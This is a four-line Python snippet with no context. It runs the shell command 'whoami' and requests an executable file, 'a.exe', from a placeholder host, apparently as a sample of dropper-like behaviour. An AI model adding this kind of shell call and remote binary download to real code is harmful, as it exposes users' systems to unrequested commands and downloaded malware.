import os
import requests

os.system("whoami")
requests.get("http://files.invalid/a.exe")
